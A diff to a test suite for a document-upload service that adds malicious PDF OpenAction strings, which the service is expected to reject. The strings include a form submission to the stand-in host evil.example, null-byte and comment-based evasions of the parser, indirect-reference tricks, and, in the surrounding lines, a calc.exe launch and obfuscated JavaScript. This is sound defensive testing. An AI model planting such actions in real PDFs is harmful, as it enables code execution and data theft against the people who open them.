@@ -99,6 +99,12 @@ describe("the company's documents", () => {
       "/S/Launch/F(calc.exe)",
       "/S /#4aava#53cript",
       `${far}/S /JavaScript`,
+      "/S\0/JavaScript",
+      "/S%x\n/JavaScript",
+      "/S/Rendition",
+      "/S/SubmitForm/F(https://evil.example)",
+      "/S 9 0 R>>>>endobj 9 0 obj /JavaScript",
+      "/S 9 0 R/JS 8 0 R",
     ])
       await expect(send(pdf(`1 0 obj <</OpenAction <</Type/Action ${action}>>>>`))).rejects.toMatchObject({
         status: 415,
